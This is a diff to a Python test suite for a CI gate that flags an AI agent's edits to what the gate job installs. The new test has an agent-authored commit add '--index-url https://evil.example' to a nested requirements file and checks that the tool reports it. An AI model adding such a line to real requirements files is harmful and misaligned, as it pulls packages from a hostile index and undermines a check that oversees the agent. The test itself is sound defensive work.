@@ -34,6 +34,7 @@ jobs:
 GITHUB_FILES = {
     ".github/workflows/nhi-gate.yml": WORKFLOW,
     "ci/requirements-gate.txt": "nhi-gate==0.1.0\n",
+    "ci/pins/base.txt": "pyyaml==6.0.2\n",
     "tools/pyproject.toml": "[project]\nname = \"tools\"\nversion = \"0.1\"\n",
     "tools/setup.py": "from setuptools import setup\nsetup()\n",
     "requirements.txt": "requests==2.32.0\n",
@@ -92,6 +93,19 @@ def test_an_agent_edit_of_what_the_gate_job_pip_installs_is_nhi102(
     line = 2 if path.endswith(".txt") else (3 if path.endswith(".toml") else 1)
     assert [(r, p, n, b) for r, p, n, b, _ in found] == [("NHI102", path, line, True)]
     assert "`run: pip install" in found[0][4]
+
+
+def test_a_requirements_file_a_gate_requirements_file_names_is_the_gate(
+        make_repo: Callable[..., GitRepo], capsys: pytest.CaptureFixture[str]) -> None:
+    repo = make_repo()
+    base = repo.commit({**GITHUB_FILES, "ci/requirements-gate.txt":
+                        "-r pins/base.txt  # shared pins\nnhi-gate==0.1.0\n"})
+    head = repo.commit({"ci/pins/base.txt": "pyyaml==6.0.2\n--index-url https://evil.example\n"},
+                       author=CLAUDE)
+    code, found = _check(repo, base, head, capsys)
+    assert code == 1
+    assert [(r, p, n, b) for r, p, n, b, _ in found] == [("NHI102", "ci/pins/base.txt", 2, True)]
+    assert "pip reads it as a requirements file" in found[0][4]
 
 
 def test_a_person_may_edit_what_the_gate_job_installs(
